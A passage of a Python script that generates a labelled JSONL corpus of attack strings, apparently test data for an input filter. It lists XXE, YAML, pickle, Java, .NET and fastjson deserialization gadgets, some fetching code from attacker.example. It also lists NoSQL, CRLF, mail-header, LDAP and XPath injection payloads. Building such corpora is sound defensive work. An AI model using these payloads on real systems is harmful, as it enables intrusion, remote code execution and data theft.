xxe-billion-laughs ⟫ <!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><l>&d;</l>
yaml-python-apply ⟫ !!python/object/apply:os.system ["id"]
yaml-python-new ⟫ cue: !!python/object/new:subprocess.check_output [["curl","attacker.example"]]
yaml-snakeyaml-scriptengine ⟫ !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/y.jar"]]]]
yaml-snakeyaml-jdbcrowset ⟫ !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://attacker.example/obj", autoCommit: true}
pickle-base64-reduce ⟫ gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==
pickle-protocol0 ⟫ cos\nsystem\n(S'id'\ntR.
java-serialized-base64 ⟫ rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHA=
dotnet-typenamehandling ⟫ {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
php-unserialize-object ⟫ O:8:"CueSheet":1:{s:4:"file";s:11:"/etc/passwd";}
php-phar-wrapper ⟫ phar://uploads/poster.jpg/test.txt
fastjson-autotype ⟫ {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example/x","autoCommit":true}
jackson-polymorphic ⟫ ["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://attacker.example/i.sql'"}]
""".strip("\n")

NOSQLI = r"""
json-ne-login ⟫ {"username":"admin","password":{"$ne":null}}
json-gt-empty ⟫ {"$gt":""}
query-ne ⟫ password[$ne]=x
query-regex ⟫ username[$regex]=^adm&password[$ne]=1
json-regex-blind ⟫ {"password":{"$regex":"^a.*"}}
json-where-sleep ⟫ {"$where":"sleep(5000)||true"}
string-where-js ⟫ '; return true; var x='
string-where-tautology ⟫ Hamlet' || '1'=='1
json-in-array ⟫ {"role":{"$in":["admin","stagemgr"]}}
json-nin-bypass ⟫ {"username":{"$nin":[""]},"password":{"$nin":[""]}}
json-exists ⟫ {"resetToken":{"$exists":true}}
json-expr-function ⟫ {"$expr":{"$function":{"body":"function(){sleep(3000);return true}","args":[],"lang":"js"}}}
json-or-operator ⟫ {"$or":[{"show":"Hamlet"},{"1":{"$ne":0}}]}
aggregate-lookup ⟫ [{"$lookup":{"from":"users","localField":"x","foreignField":"x","as":"leak"}}]
query-gt-bracket ⟫ seat[$gt]=&row[$gt]=
js-where-this ⟫ this.password.match(/^a/) || sleep(2000)
json-where-dos ⟫ {"$where":"while(true){}"}
couchdb-selector ⟫ {"selector":{"_id":{"$gt":null}},"fields":["password"]}
mongo-mapreduce-js ⟫ {"mapReduce":"tickets","map":"function(){emit(db.users.findOne().password,1)}","reduce":"function(){}","out":{"inline":1}}
cue-note-ne ⟫ {"cue":"LX 14","operator":{"$ne":"nobody"}}
url-encoded-ne ⟫ password%5B%24ne%5D=1
string-js-sleep ⟫ 1'; sleep(5000); var d='1
json-regex-options ⟫ {"email":{"$regex":".*","$options":"si"}}
elastic-script ⟫ {"script":{"source":"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')"}}
redis-eval-lua ⟫ EVAL "return redis.call('CONFIG','GET','*')" 0
""".strip("\n")

CRLF = r"""
log-forging-login ⟫ stagemgr\r\n2026-05-02 19:31:07 INFO login succeeded user=admin ip=10.0.0.2
log-forging-cue ⟫ LX 14 GO\n[19:42:11] WARN fire curtain tripped by operator=admin
log-forging-encoded ⟫ Q22%0d%0a[audit] role granted: admin by system
header-set-cookie ⟫ en-GB\r\nSet-Cookie: session=attacker; Path=/; HttpOnly
header-encoded-set-cookie ⟫ /box-office%0d%0aSet-Cookie:%20admin=1
response-splitting ⟫ /programme%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
redirect-location ⟫ /seats\r\nLocation: https://attacker.example/phish
header-xss-body ⟫ x\r\n\r\n<svg onload=alert(1)>
cors-injection ⟫ https://theatre.example\r\nAccess-Control-Allow-Origin: https://attacker.example
cache-poison-header ⟫ en\r\nX-Forwarded-Host: attacker.example
unicode-line-separator ⟫ ok%E5%98%8A%E5%98%8DSet-Cookie:%20x=1
lf-only-header ⟫ filename.pdf\nContent-Disposition: attachment; filename=evil.html
double-url-crlf ⟫ /cast%250d%250aSet-Cookie:%2520t=1
percent-u-crlf ⟫ /tickets%u000d%u000aX-Injected:%20yes
mail-bcc ⟫ box.office@theatre.example\r\nBcc: everyone@attacker.example
mail-cc-encoded ⟫ patron@example.com%0ACc:%20list@attacker.example
mail-subject-body ⟫ Ticket query\r\nContent-Type: text/html\r\n\r\n<a href="https://attacker.example/pay">Pay now</a>
mail-to-append ⟫ Front of House\nTo: victim@attacker.example
mail-from-spoof ⟫ Ana López\r\nFrom: director@theatre.example\r\nReply-To: x@attacker.example
smtp-command-smuggle ⟫ rehearsal notes\r\n.\r\nMAIL FROM:<a@attacker.example>\r\nRCPT TO:<cast@theatre.example>\r\nDATA\r\nfake notice\r\n.
log-forging-ansi ⟫ Cue 9 standby\r\n\x1b[2J\x1b[1;1H[OK] all checks passed
syslog-forging ⟫ sound desk\n<13>May  2 20:01:00 boxoffice sudo: root : COMMAND=/bin/sh
csv-log-newline ⟫ Row F, seat 12\r\n2026-05-02,REFUND,5000.00,approved-by=admin
http-request-smuggle ⟫ x\r\nContent-Length: 0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n
header-encoded-location ⟫ %0d%0aLocation:%20http://attacker.example
redis-crlf ⟫ cue\r\nFLUSHALL\r\n
memcached-crlf ⟫ showkey\r\nset injected 0 3600 4\r\npwnd\r\n
""".strip("\n")

LDAP_XPATH = r"""
ldap-wildcard-login ⟫ *
ldap-or-tautology ⟫ stagemgr)(|(uid=*
ldap-and-bypass ⟫ admin)(&)
ldap-comment-null ⟫ admin)%00
ldap-objectclass ⟫ *)(objectClass=*
ldap-attr-leak ⟫ jdoe)(userPassword=a*
ldap-or-injection ⟫ Lighting)(|(cn=*)(mail=*
ldap-member-of ⟫ *)(memberOf=cn=Admins,ou=Groups,dc=theatre,dc=example
ldap-encoded ⟫ %2a%29%28%7c%28uid%3d%2a
ldap-cast-search ⟫ Rosalind*)(|(description=*
xpath-or-tautology ⟫ ' or '1'='1
xpath-or-true ⟫ x' or true() or 'a'='b
xpath-count-blind ⟫ ' or count(/*)=1 or 'a'='b
xpath-substring-blind ⟫ admin' and substring(//user[1]/password,1,1)='a' and '1'='1
xpath-name-enum ⟫ ' or name(/*[1])='cues' or 'x'='y
xpath-union-node ⟫ ')] | //user/password | //*[('
xpath-doc-function ⟫ ' or doc('http://attacker.example/x.xml') or '
xpath-string-length ⟫ LX 14' and string-length(//operator[1]/pin)=4 and '1'='1
xpath-numeric ⟫ 1 or 1=1
xpath-comment-node ⟫ ' or //comment() or '
""".strip("\n")

BLOCKS = [
    ("sqli", SQLI, 8),
    ("xss", XSS, 6),
    ("cmdi", CMDI, 3),
    ("traversal", TRAVERSAL, 5),
    ("ssrf", SSRF, 1),
    ("code", CODE, 1),
    ("nosqli", NOSQLI, 2),
    ("crlf", CRLF, 3),
    ("ldap-xpath", LDAP_XPATH, 0),
]

# classes whose values contain written-out escapes to be turned into real characters
REAL_CONTROL = ("crlf",)


def parse(block, category):
    out = []
    for line in block.split("\n"):
        if not line.strip():
            continue
        cls, value = line.split(SEP, 1)
        if category in REAL_CONTROL:
            value = (value.replace("\\r", "\r").replace("\\n", "\n")
                     .replace("\\x1b", "\x1b"))
        elif cls.startswith("yaml-") or cls.startswith("pickle-protocol0"):
            value = value.replace("\\n", "\n")
        out.append((cls.strip(), value))
    return out


def main():
    rng = random.Random(SEED)
    rows = []
    for category, block, n_enc in BLOCKS:
        items = parse(block, category)
        # template: one URL-encoding pass over a seeded sample of literals
        # only values not already percent-encoded, so one decode restores them
        plain = [i for i, (_, v) in enumerate(items) if "%" not in v]
        picks = rng.sample(plain, n_enc)
        extra = []
        for i in sorted(picks):
            cls, value = items[i]
            extra.append((cls + "+urlencode", urllib.parse.quote(value, safe="")))
        for cls, value in items + extra:
            rows.append((category, cls, value))
    here = os.path.dirname(os.path.abspath(__file__))
    path = os.path.join(here, "attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for n, (category, cls, value) in enumerate(rows, 1):
            rec = {"id": "%s-%05d" % (PREFIX, n), "category": category,
                   "class": cls, "label": "attack", "value": value}
            fh.write(json.dumps(rec, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
